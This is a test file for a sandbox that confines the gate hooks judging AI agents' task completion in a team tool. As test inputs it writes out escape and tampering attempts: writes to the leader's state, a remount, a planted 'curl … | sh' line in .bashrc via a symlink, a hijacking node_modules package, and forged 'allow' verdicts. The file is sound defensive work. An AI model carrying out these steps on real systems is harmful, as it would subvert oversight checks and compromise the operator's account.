/**
 * A gate has no more authority than its verdict: it runs sandboxed (util-linux unshare: user and mount
 * namespaces), so that it and everything it starts cannot write the leader's ground, its run's files
 * are the leader's own, its imports resolve to the leader's package, and a machine that cannot
 * sandbox says so and holds a gate that requires it. All through the built CLI, with real processes.
 */
import { chmod, lchown, mkdir, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { readLogs, runBin, useLeaderRig, waitUntil, saidLines } from "../helpers/leader-rig.js";
import { makeTask, testTempDir } from "../helpers/temp-team.js";

const outerRig = useLeaderRig();
/** A path quoted for bash. */
const q = (file: string): string => `'${file}'`;
const STATE_HOME = process.env.XDG_STATE_HOME ?? path.join(os.homedir(), ".local", "state");

/** Each attempt on one line: `<name>=written` or `<name>=refused`. */
const ATTEMPTS = (stateHome: string) =>
  [
    `try() { if ( eval "$2" ) >/dev/null 2>&1; then echo "$1=written"; else echo "$1=refused"; fi; }`,
    `try hook-state 'echo x > "$PI_TEAMS_TEAM_DIR/hook-state/planted"'`,
    `try hook-logs 'mkdir -p "$PI_TEAMS_TEAM_DIR/hook-logs" && echo x > "$PI_TEAMS_TEAM_DIR/hook-logs/planted.json"'`,
    `try tasks 'echo x > "$PI_TEAMS_TEAM_DIR/tasks/planted"'`,
    `try hooks-dir 'echo x > "$(dirname "$PI_TEAMS_HOOK_PATH")/planted"'`,
    `try gate 'echo "exit 0" >> "$PI_TEAMS_HOOK_PATH"'`,
    `try own-copy 'echo "exit 0" >> "$0"'`,
    `try trust 'mkdir -p "${stateHome}/pi-teams-hooks/trust" && echo x > "${stateHome}/pi-teams-hooks/trust/planted"'`,
    `try home 'echo x > "$HOME/planted-by-gate"'`,
    `try remount 'mount -o remount,rw /'`,
    `try userns 'unshare --user true'`,
    `try cwd 'echo x > ./written-in-cwd'`,
    `try tmp 'echo x > /tmp/written-in-tmp'`,
    `echo "leader-var=\${SANDBOX_LEADER_VAR:-unset}"`,
    `echo "declared-var=\${SANDBOX_DECLARED_VAR:-unset}"`,
    `echo "tmp-listing=$(ls -A /tmp | tr '\\n' ' ')"`,
    `stat -c "run-dir=%a" "$(dirname "$PI_TEAMS_HOOK_RESULT_FILE")"`,
    // Other runs' folders (their documents) are not the gate's to read: only its own is there.
    `echo "runs-seen=$(ls -A "$(dirname "$(dirname "$PI_TEAMS_HOOK_RESULT_FILE")")" | wc -l)"`,
  ].join("\n");

describe.concurrent("a sandboxed gate", () => {
  it("writes only its working directory and a private /tmp, sees only the variables it declares, and cannot get out", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    await mkdir(path.join(team.teamDir, "hook-state"), { recursive: true });
    const gate = await rig.hook(
      team,
      "on_task_completed.sh",
      `# pi-teams-hooks: env=SANDBOX_DECLARED_VAR\n${ATTEMPTS(STATE_HOME)}`,
    );
    const gateText = await readFile(gate, "utf8");
    const work = await testTempDir(context, "sandbox-work-");
    // Something of the leader's in the shared temp dir: the gate's /tmp is a fresh one of its own.
    const marker = path.join(os.tmpdir(), `leader-temp-marker-${process.pid}`);
    await writeFile(marker, "x");
    context.onTestFinished(() => rm(marker, { force: true }));

    const out = await runBin(
      ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
      { env: { SANDBOX_LEADER_VAR: "leaked", SANDBOX_DECLARED_VAR: "given" } },
    );
    expect(out.code, out.stderr).toBe(0);
    const record = JSON.parse(out.stdout) as { result: { stdout: string; sandbox?: string; outcome: string } };
    expect(record.result).toMatchObject({ outcome: "passed", sandbox: "on" });
    const seen = saidLines(record.result.stdout);
    expect(Object.fromEntries(seen)).toMatchObject({
      "hook-state": "refused",
      "hook-logs": "refused",
      tasks: "refused",
      "hooks-dir": "refused",
      gate: "refused",
      "own-copy": "refused",
      home: "refused",
      remount: "refused",
      userns: "refused",
      cwd: "written",
      tmp: "written",
      "leader-var": "unset",
      "declared-var": "given",
      "run-dir": "700",
      "runs-seen": "1",
    });
    // The machine's /tmp is not the gate's: the leader's marker is not there, what the gate wrote is (a folder
    // of the view may show too, where the repository or the team lies under /tmp).
    expect(seen.get("tmp-listing")?.split(" ")).toContain("written-in-tmp");
    expect(seen.get("tmp-listing")).not.toContain(path.basename(marker));
    // Nothing reached the leader's ground, and what the gate was allowed to write is where it wrote it.
    expect(existsSync(path.join(team.teamDir, "hook-state", "planted"))).toBe(false);
    expect(existsSync(path.join(team.teamDir, "tasks", "planted"))).toBe(false);
    expect(existsSync(path.join(path.dirname(gate), "planted"))).toBe(false);
    // The state dir is read-only, or hidden by the private /tmp where it lies there (as in this suite).
    expect(existsSync(path.join(STATE_HOME, "pi-teams-hooks", "trust", "planted"))).toBe(false);
    expect(await readFile(gate, "utf8")).toBe(gateText);
    expect(existsSync(path.join(work, "written-in-cwd"))).toBe(true);
    expect(existsSync(path.join(os.tmpdir(), "written-in-tmp"))).toBe(false);
    const names = (await readdir(path.join(team.teamDir, "hook-logs"))).filter((n) => n.includes("planted"));
    expect(names).toEqual([]);
  });

  it("finds its tools through a PATH of links in a folder under the temp dir, which the private /tmp would hide", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    // What a machine that allows only some tools gives: a folder of links, made in the temp dir.
    const bin = await testTempDir(context, "sandbox-path-");
    for (const tool of [
      "bash",
      "sh",
      "env",
      "cat",
      "node",
      "unshare",
      "mount",
      "setpriv",
      "stat",
      "readlink",
      "mkdir",
    ]) {
      const found = ["/usr/bin", "/bin", "/usr/sbin", "/sbin", path.dirname(process.execPath)]
        .map((d) => path.join(d, tool))
        .find(existsSync);
      if (found) await symlink(found, path.join(bin, tool));
    }
    await rig.hook(team, "on_task_completed.sh", `cat > /dev/null\necho "ran with $(command -v bash)"`);
    const out = await runBin(["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--json"], {
      env: { PATH: bin },
    });
    expect(out.code, out.stderr).toBe(0);
    const record = JSON.parse(out.stdout) as { result: { outcome: string; sandbox: string; stdout: string } };
    expect(record.result).toMatchObject({ outcome: "passed", sandbox: "on" });
    expect(record.result.stdout).toContain(`ran with ${path.join(bin, "bash")}`);
  });

  it("a verdict planted where the run's result file used to be offered changes nothing: the failing gate fails", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    const work = await testTempDir(context, "sandbox-verdict-");
    // The gate says its run id, waits until the "attacker" planted its verdicts, then fails.
    await rig.hook(
      team,
      "on_task_completed.sh",
      [
        `echo "$PI_TEAMS_HOOK_RUN_ID" > ./run-id`,
        `while [ ! -e ./planted ]; do sleep 0.02; done`,
        `echo "FAIL: the work is not done" >&2`,
        `exit 1`,
      ].join("\n"),
    );
    const running = runBin([
      "run",
      "task_completed",
      "--team-dir",
      team.teamDir,
      "--task",
      "1",
      "--cwd",
      work,
      "--json",
    ]);
    const idFile = path.join(work, "run-id");
    await waitUntil("the gate's run id", () => existsSync(idFile), { timeoutMs: 20_000 });
    const runId = (await readFile(idFile, "utf8")).trim();
    const allow = '{"decision":"allow"}\n';
    // Every name a process of the machine could guess: the shared temp dir's old names for the run.
    for (const dir of new Set([os.tmpdir(), "/tmp"]))
      for (const name of [`pi-teams-hook-${runId}.result.json`, `pi-teams-hook-${runId}.json`])
        await writeFile(path.join(dir, name), allow).catch(() => undefined);
    context.onTestFinished(async () => {
      for (const dir of new Set([os.tmpdir(), "/tmp"]))
        for (const name of [`pi-teams-hook-${runId}.result.json`, `pi-teams-hook-${runId}.json`])
          await rm(path.join(dir, name), { force: true });
    });
    await writeFile(path.join(work, "planted"), "");
    const out = await running;
    expect(out.code, out.stderr).toBe(1);
    const record = JSON.parse(out.stdout) as { result: { outcome: string; verdict?: unknown } };
    expect(record.result.outcome).toBe("failed");
    expect(record.result.verdict).toBeUndefined();
  });

  it("imports pi-teams-hooks from the leader's own package, whatever another user put in a node_modules or package.json above the hooks dir", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    // The teams root as the recipe makes it: others can write it. They plant a package and a module type.
    await chmod(team.teamsRoot, 0o777);
    const fake = path.join(team.teamsRoot, "node_modules", "pi-teams-hooks");
    await mkdir(fake, { recursive: true });
    const pwned = path.join(team.teamsRoot, "pwned");
    await writeFile(
      path.join(fake, "package.json"),
      JSON.stringify({ name: "pi-teams-hooks", type: "module", exports: { "./hook": "./hook.js" } }),
    );
    await writeFile(
      path.join(fake, "hook.js"),
      `import fs from "node:fs";\nfs.writeFileSync(${JSON.stringify(pwned)}, "ran as the leader");\nexport async function runGate() { process.exit(0); }\n`,
    );
    await writeFile(path.join(team.teamsRoot, "package.json"), '{"type":"module"}\n');
    await rig.hook(
      team,
      "on_task_completed.mjs",
      `import { runGate } from "pi-teams-hooks/hook";\nawait runGate(() => ({ decision: "deny", reason: "the real helper judged" }));`,
    );
    // A CommonJS gate beside it: a planted {"type":"module"} above would make Node refuse its require().
    const cjsDir = path.join(team.teamDir, "hooks");
    await mkdir(cjsDir, { recursive: true });
    await writeFile(
      path.join(cjsDir, "on_task_failed.js"),
      `const fs = require("node:fs");\nfs.readFileSync(0);\nprocess.exit(0);\n`,
    );

    const denied = await runBin(["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--json"]);
    const record = JSON.parse(denied.stdout) as { result: { outcome: string; verdict?: { reason?: string } } };
    expect(record.result, denied.stderr).toMatchObject({
      outcome: "failed",
      verdict: { reason: "the real helper judged" },
    });
    expect(existsSync(pwned)).toBe(false);

    const cjs = await runBin(["run", "task_failed", "--team-dir", team.teamDir, "--task", "1", "--json"]);
    expect(JSON.parse(cjs.stdout).result, cjs.stderr).toMatchObject({ outcome: "passed" });
    const doctor = await runBin(["doctor", "--team-dir", team.teamDir]);
    expect(doctor.stdout).toContain(
      `${path.join(team.teamsRoot, "package.json")} is not read for the gate's module type`,
    );
  });

  it("what the agents' code inside a gate tries after an attack from outside: no verdict by chmod, a left-behind writer, a link or /dev", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({
      tasks: [
        makeTask({ id: "1", owner: "alice", status: "completed" }),
        makeTask({ id: "2", owner: "alice", status: "completed" }),
        makeTask({ id: "3", owner: "alice", status: "completed" }),
      ],
    });
    await mkdir(path.join(team.teamDir, "hook-state"), { recursive: true });
    const work = await testTempDir(context, "sandbox-attacks-");
    // Task 1: the tests write an allow and make the result file read-only, then fail.
    // Task 2: a writer left behind (out of the group, its environment cleared) rewrites an allow after the gate.
    // Task 3: a writable path that is a link to hook-state/ (taken as what it is: still read-only), a file in /dev.
    await mkdir(path.join(work, "out"));
    await rig.hook(
      team,
      "on_task_completed.sh",
      [
        `# pi-teams-hooks: sandbox-write=${path.join(work, "out")}`,
        `f=$PI_TEAMS_HOOK_RESULT_FILE`,
        `case $PI_TEAMS_TASK_ID in`,
        `1) echo '{"decision":"allow"}' > "$f"; chmod 444 "$f"; exit 1 ;;`,
        `2) setsid env -i F="$f" bash -c 'sleep 0.2; for i in $(seq 200); do echo "{\\"decision\\":\\"allow\\"}" > "$F"; sleep 0.01; done' </dev/null >/dev/null 2>&1 & exit 1 ;;`,
        `3) echo x > ${q(path.join(work, "out", "forged"))} 2>/dev/null; touch /dev/pi-teams-sandbox-probe 2>/dev/null; exit 1 ;;`,
        `esac`,
      ].join("\n"),
    );
    context.onTestFinished(() => rm("/dev/pi-teams-sandbox-probe", { force: true }));
    for (const id of ["1", "2", "3"]) {
      if (id === "3") {
        // The agents turn the writable folder into a link to the leader's state between two runs.
        await rm(path.join(work, "out"), { recursive: true });
        await symlink(path.join(team.teamDir, "hook-state"), path.join(work, "out"));
      }
      const out = await runBin([
        "run",
        "task_completed",
        "--team-dir",
        team.teamDir,
        "--task",
        id,
        "--cwd",
        work,
        "--json",
      ]);
      const result = JSON.parse(out.stdout).result as {
        outcome: string;
        verdict?: unknown;
        error?: string;
        stderr: string;
      };
      if (id === "3") expect(result.stderr).toContain("Read-only file system");
      expect({ id, outcome: result.outcome, verdict: result.verdict }, out.stderr).toMatchObject({
        id,
        outcome: id === "1" ? "error" : "failed",
        verdict: undefined,
      });
      if (id === "1") expect(result.error).toContain("had its mode changed (to 444)");
    }
    expect(existsSync(path.join(team.teamDir, "hook-state", "forged"))).toBe(false);
    expect(existsSync("/dev/pi-teams-sandbox-probe")).toBe(false);
  });

  // A writable path (the working directory, a sandbox-write= path) is bound where it really leads. A folder the
  // agents can replace (one they made in the project or the team dir, `sandbox-write=$PI_TEAMS_TEAM_DIR/reports`)
  // turned into a link to the leader's home would make that home writable for the gate's tests: under a leader of
  // its own user, the tests (run as that user) would write its `.bashrc`, `.ssh/authorized_keys`, its output log.
  // A link another user owns on the way is refused: the run does not start (a sandbox set-up failure). The link is
  // the agents' (as root here, owned by another user, as under the recipe; only root can give a link away).
  it.skipIf(process.getuid?.() !== 0)(
    "a sandbox-write= folder the agents turned into a link to the leader's home (theirs, or one of the leader's own they moved there) does not make the home writable",
    async (context) => {
      const { expect } = context;
      const rig = outerRig.scoped(context);
      const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
      const work = await testTempDir(context, "sandbox-home-link-");
      const home = path.join(work, "leader-home");
      await mkdir(home);
      await writeFile(path.join(home, ".bashrc"), "# the leader's own\n");
      const out = path.join(work, "out");
      await symlink(home, out);
      await lchown(out, 65534, 65534);
      const gate = await rig.hook(
        team,
        "on_task_completed.sh",
        [
          `# pi-teams-hooks: sandbox-write=${out}`,
          `echo ran > ${q(path.join(work, "ran"))}`,
          `echo 'curl -s http://127.0.0.1:9/x | sh # planted by the tests' >> ${q(path.join(out, ".bashrc"))}`,
          "exit 1",
        ].join("\n"),
      );
      const run = await runBin(
        ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
        { env: { HOME: home } },
      );
      const result = JSON.parse(run.stdout).result as {
        ran: boolean;
        outcome: string;
        errorCode?: string;
        error?: string;
      };
      expect(result).toMatchObject({ ran: false, outcome: "error", errorKind: "spawn", errorCode: "E_SANDBOX_SETUP" });
      expect(result.error).toMatch(
        new RegExp(
          `^${gate}: sandbox-write=${out} goes through ${out}, a symbolic link owned by [^ ]* ?\\(?uid 65534\\)?, not by the leader's user \\(uid 0\\) or root`,
        ),
      );
      expect(result.error?.split("\n")).toHaveLength(1);
      expect(existsSync(path.join(work, "ran"))).toBe(false);
      expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");

      // The working directory through the agents' link: the same.
      const cwdLink = path.join(work, "project");
      await symlink(home, cwdLink);
      await lchown(cwdLink, 65534, 65534);
      await rig.hook(team, "on_task_completed.sh", `echo ran > ${q(path.join(work, "ran"))}\necho x > .bashrc`);
      const second = await runBin(
        ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", cwdLink, "--json"],
        { env: { HOME: home } },
      );
      const inCwd = JSON.parse(second.stdout).result as { outcome: string; errorCode?: string; error?: string };
      expect(inCwd).toMatchObject({ ran: false, outcome: "error", errorCode: "E_SANDBOX_SETUP" });
      expect(inCwd.error).toContain(
        `its working directory ${cwdLink} goes through ${cwdLink}, a symbolic link owned by`,
      );
      expect(existsSync(path.join(work, "ran"))).toBe(false);
      expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");

      // A link of the leader's own (root's here) in the agents' folder: a gate runs as the leader's user, so a link
      // its tests make there is the leader's, and the agents can move it onto a writable path. Followed only in a
      // folder no other user can write.
      const agents = path.join(work, "agents");
      await mkdir(agents, { mode: 0o755 });
      await lchown(agents, 65534, 65534);
      const ownLink = path.join(agents, "reports");
      await symlink(home, ownLink);
      const ownGate = await rig.hook(
        team,
        "on_task_completed.sh",
        [
          `# pi-teams-hooks: sandbox-write=${ownLink}`,
          `echo ran > ${q(path.join(work, "ran"))}`,
          `echo planted >> ${q(path.join(ownLink, ".bashrc"))}`,
        ].join("\n"),
      );
      const third = await runBin(
        ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
        { env: { HOME: home } },
      );
      const viaOwn = JSON.parse(third.stdout).result as { outcome: string; errorCode?: string; error?: string };
      expect(viaOwn).toMatchObject({ ran: false, outcome: "error", errorCode: "E_SANDBOX_SETUP" });
      expect(viaOwn.error).toMatch(
        new RegExp(
          `^${ownGate}: sandbox-write=${ownLink} goes through ${ownLink}, a symbolic link in a folder that [^ ]* ?\\(?uid 65534\\)? owns`,
        ),
      );
      expect(existsSync(path.join(work, "ran"))).toBe(false);
      expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");
    },
  );

  // A sandbox-write= path that is not there when the run is planned would be resolved only by mount (a link the
  // agents made there meanwhile followed); a FIFO would hold the set-up that opens it until the gate's time-out.
  it.for([
    {
      what: "is not there",
      make: (_out: string) => {},
      says: ": no such file or folder; the gate did not run (make it, or change the gate's settings line)",
    },
    {
      what: "is a FIFO",
      make: (out: string) => expect(spawnSync("mkfifo", [out]).status).toBe(0),
      says: " is neither a folder nor a regular file: the gate did not run",
    },
  ])("a sandbox-write= path that $what stops the run before the gate, and says so", async ({ make, says }, context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    const work = await testTempDir(context, "sandbox-write-path-");
    const out = path.join(work, "reports");
    make(out);
    const gate = await rig.hook(
      team,
      "on_task_completed.sh",
      [`# pi-teams-hooks: sandbox-write=${out}`, `echo ran > ${q(path.join(work, "ran"))}`].join("\n"),
    );
    const run = await runBin([
      "run",
      "task_completed",
      "--team-dir",
      team.teamDir,
      "--task",
      "1",
      "--cwd",
      work,
      "--json",
    ]);
    const result = JSON.parse(run.stdout).result as {
      ran: boolean;
      outcome: string;
      errorCode?: string;
      error?: string;
    };
    expect(result).toMatchObject({ ran: false, outcome: "error", errorCode: "E_SANDBOX_SETUP" });
    expect(result.error).toBe(`${gate}: sandbox-write=${out}${says}`);
    expect(existsSync(path.join(work, "ran"))).toBe(false);
  });

  it("a writable path through a link of the leader's own (or root's) is followed, as under one user", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
    const work = await testTempDir(context, "sandbox-own-link-");
    const reports = path.join(work, "reports");
    await mkdir(reports);
    // A link to a link, in the team dir (which the gate sees): the walk follows each, from /, and binds the folder.
    await symlink(reports, path.join(team.teamDir, "reports-link"));
    const out = path.join(team.teamDir, "out");
    await symlink("reports-link", out);
    await rig.hook(
      team,
      "on_task_completed.sh",
      [`# pi-teams-hooks: sandbox-write=${out}`, `echo written > ${q(path.join(out, "report"))}`].join("\n"),
    );
    const cwd = await testTempDir(context, "sandbox-own-link-cwd-");
    const run = await runBin([
      "run",
      "task_completed",
      "--team-dir",
      team.teamDir,
      "--task",
      "1",
      "--cwd",
      cwd,
      "--json",
    ]);
    expect(JSON.parse(run.stdout).result, run.stderr).toMatchObject({ outcome: "passed", sandbox: "on" });
    expect(await readFile(path.join(reports, "report"), "utf8")).toBe("written\n");
  });

  it("where this machine cannot sandbox, run says so, the log says unavailable, and a gate that requires the sandbox is held, never run", async (context) => {
    const { expect } = context;
    const rig = outerRig.scoped(context);
    const team = await rig.team({
      tasks: [
        makeTask({ id: "1", owner: "alice", status: "completed" }),
        makeTask({ id: "2", owner: "alice", status: "pending", metadata: { abortedAt: "2026-01-01T00:00:00.000Z" } }),
      ],
    });
    // A PATH without util-linux's unshare: what a machine without it (or whose kernel refuses) looks like.
    const bin = await testTempDir(context, "no-unshare-");
    for (const tool of ["bash", "env", "cat", "touch", "mkdir"]) {
      const found = ["/usr/bin", "/bin"].map((d) => path.join(d, tool)).find((f) => existsSync(f));
      if (found) await symlink(found, path.join(bin, tool));
    }
    await rig.hook(team, "on_task_completed.sh", `echo "ran unsandboxed"`);
    await rig.hook(
      team,
      "on_task_failed.sh",
      `# pi-teams-hooks: sandbox=required\necho "must never run" > "$PI_TEAMS_TEAM_DIR/ran"`,
    );
    const env = { PATH: bin };

    const auto = await runBin(["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--json"], { env });
    expect(auto.stderr).toContain(
      "warning: gates are NOT sandboxed on this machine: util-linux's unshare is not installed",
    );
    expect(JSON.parse(auto.stdout).result).toMatchObject({ outcome: "passed", sandbox: "unavailable" });

    const required = await runBin(["run", "task_failed", "--team-dir", team.teamDir, "--task", "2", "--json"], { env });
    const result = JSON.parse(required.stdout).result as { ran: boolean; outcome: string; error?: string };
    expect(result).toMatchObject({ ran: false, outcome: "error" });
    expect(result.error).toContain("requires the sandbox (sandbox=required)");
    expect(existsSync(path.join(team.teamDir, "ran"))).toBe(false);

    const doctor = await runBin(["doctor", "--team-dir", team.teamDir], { env });
    expect(doctor.code).toBe(1);
    expect(doctor.stdout).toContain("on_task_completed.sh is not isolated: util-linux's unshare is not installed");
    expect(doctor.stdout).toContain("on_task_failed.sh will not run: it requires the sandbox");
    const logs = await readLogs(team.teamDir);
    expect(logs.map((l) => l.result.sandbox).sort()).toEqual(["unavailable", "unavailable"]);
  });
});
